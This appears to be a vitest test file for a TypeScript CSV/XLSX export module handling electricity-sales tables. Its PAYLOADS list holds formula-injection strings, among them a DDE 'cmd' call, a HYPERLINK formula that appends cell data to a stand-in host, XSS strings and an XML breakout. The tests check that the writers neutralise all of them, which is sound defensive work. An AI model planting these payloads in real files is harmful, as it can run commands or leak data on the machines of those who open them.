import { buffer } from 'node:stream/consumers';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import type { ExportTable } from './export-column.ts';
import { readTable } from './read-table.ts';
import { csvCell, writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://x.example?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+1+cmd',
  '-1+cmd',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  ']]></t></is></c><c><f>1+1</f></c>',
  '_x003D_1',
  'a\u0000b\u000bc',
  '\ud800',
];

const table = (rows: ExportTable['rows']): ExportTable => ({
  name: '售电明细/1',
  timeZone: 'Asia/Shanghai',
  rows,
  columns: [
    { title: '户名', type: 'text', width: 30 },
    { title: '金额', type: 'money' },
    { title: '单价', type: 'unit-price' },
    { title: '电量', type: 'quantity' },
    { title: '营业日', type: 'date' },
    { title: '时间', type: 'instant' },
    { title: '笔数', type: 'integer' },
  ],
});

const ROW = ['示例用户㛃䶮龘', 12_850, 5_283, 243_230, '2026-11-23', '2026-11-23T16:00:01.000Z', 3] as const;

async function* streamed<T>(...rows: T[]): AsyncGenerator<T> {
  yield* rows;
}

describe('CSV', () => {
  test('has the mark, CRLF and the values as people write them', async () => {
    const text = (await buffer(writeCsv(table(streamed([...ROW], ['a,"b"', -5, 0, -1, null, null, 0]))))).toString(
      'utf8',
    );
    expect(text).toBe(
      '\ufeff户名,金额,单价,电量,营业日,时间,笔数\r\n示例用户㛃䶮龘,128.50,0.5283,243.230,2026-11-23,2026-11-24 00:00:01,3\r\n"a,""b""",-0.05,0.0000,-0.001,,,0\r\n',
    );
  });

  test.each([
    ['=1', '"\'=1"'],
    ['-5.20', '-5.20'],
    ['+8613800000000', '+8613800000000'],
    ['-1+1', '"\'-1+1"'],
    ['1201', '1201'],
    ['a\nb', '"a\nb"'],
  ])('%s becomes %s', (text, written) => expect(csvCell(text)).toBe(written));

  test.each(PAYLOADS)('%j starts no computation and comes back as text', async (payload) => {
    const bytes = await buffer(writeCsv(table([[payload, 1, 1, 1, null, null, 1]])));
    const file = await readTable(bytes, 'out.csv');
    const cell = /^\ufeff[^\n]*\n("(?:[^"]|"")*"|[^,]*),/.exec(bytes.toString('utf8'))![1]!;
    const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(shown).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    expect(shown.endsWith(payload.toWellFormed())).toBe(true);
    expect(file.rows.length + file.problems.length).toBe(1);
  });

  test('asks for rows only as they are taken', async () => {
    let given = 0;
    async function* endless(): AsyncGenerator<readonly [string, number, number, number, null, null, number]> {
      for (;;) {
        given += 1;
        yield ['x'.repeat(100), 1, 1, 1, null, null, 1];
      }
    }
    const stream = writeCsv(table(endless()));
    await new Promise((resolve) => stream.once('readable', resolve));
    stream.read();
    stream.destroy();
    expect(given).toBeLessThan(10_000);
  });

  test('a fault of the source ends the stream with it', async () => {
    async function* broken(): AsyncGenerator<(string | number | null)[]> {
      yield [...ROW];
      throw new Error('connection lost');
    }
    await expect(buffer(writeCsv(table(broken())))).rejects.toThrow('connection lost');
    await expect(buffer(writeXlsx(table(broken())))).rejects.toThrow('connection lost');
  });
});

describe('XLSX', () => {
  test('is read back by our reader', async () => {
    const bytes = await buffer(writeXlsx(table(streamed([...ROW], ['007', -5, 0, -1, null, null, 0]))));
    const file = await readTable(bytes, 'out.xlsx');
    expect(file.problems).toEqual([]);
    expect(file.remarks).toEqual([]);
    expect(file.columns).toEqual(['户名', '金额', '单价', '电量', '营业日', '时间', '笔数']);
    expect(file.rows.map(({ cells }) => Object.values(cells))).toEqual([
      ['示例用户㛃䶮龘', '128.5', '0.5283', '243.23', '2026-11-23', '2026-11-24 00:00:01', '3'],
      ['007', '-0.05', '0', '-0.001', '', '', '0'],
    ]);
  });

  test('has a bold frozen header, widths and formats', async () => {
    const bytes = await buffer(writeXlsx(table(streamed([...ROW]))));
    const [sheet] = (await readXlsx(bytes, { readStyles: true })).sheets;
    expect(sheet!.name).toBe('售电明细 1');
    expect(sheet!.freezePane?.rows).toBe(1);
    expect(sheet!.columns?.[0]?.width).toBe(30);
    const style = (row: number, column: number) => sheet!.cells?.get(`${row},${column}`)?.style;
    expect(style(0, 1)?.font?.bold).toBe(true);
    expect(style(1, 1)?.font?.bold ?? false).toBe(false);
    expect([1, 2, 3].map((column) => style(1, column)?.numFmt)).toEqual(['0.00', '0.0000', '0.000']);
    expect(sheet!.rows[1]![1]).toBe(128.5);
  });

  test.each(PAYLOADS)('%j is text, never a formula', async (payload) => {
    const bytes = await buffer(writeXlsx(table([[payload, 1, 1, 1, null, null, 1]])));
    const [sheet] = (await readXlsx(bytes)).sheets;
    expect([...(sheet!.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is replaced
    const kept = payload.toWellFormed().replace(/[\u0000\u000b]/g, ' ');
    // XML reads a carriage return as a line end.
    expect(String(sheet!.rows[1]![0]).replace(/\r/g, '\n')).toBe(kept.replace(/\r/g, '\n'));
    expect(sheet!.rows[1]).toHaveLength(7);
  });

  test('money of every size keeps its last fen', async () => {
    const amounts = [1, -1, 99, 100_000_000_001, 9_007_199_254_740, -123_456_789_012_345];
    const rows = amounts.map((amount) => ['', amount, null, null, null, null, null]);
    const file = await readTable(await buffer(writeXlsx(table(rows))), 'out.xlsx');
    expect(file.rows.map(({ cells }) => Number(cells.金额).toFixed(2))).toEqual(
      amounts.map((amount) => (amount / 100).toFixed(2)),
    );
  });

  test('summer time is the time zone’s, not ours', async () => {
    const summer = {
      ...table([
        ['', 1, 1, 1, null, '2026-07-01T12:00:00.000Z', 1],
        ['', 1, 1, 1, null, '2026-12-01T12:00:00.000Z', 1],
      ]),
      timeZone: 'Europe/Berlin',
    };
    const file = await readTable(await buffer(writeXlsx(summer)), 'out.xlsx');
    expect(file.rows.map(({ cells }) => cells.时间)).toEqual(['2026-07-01 14:00:00', '2026-12-01 13:00:00']);
  });
});
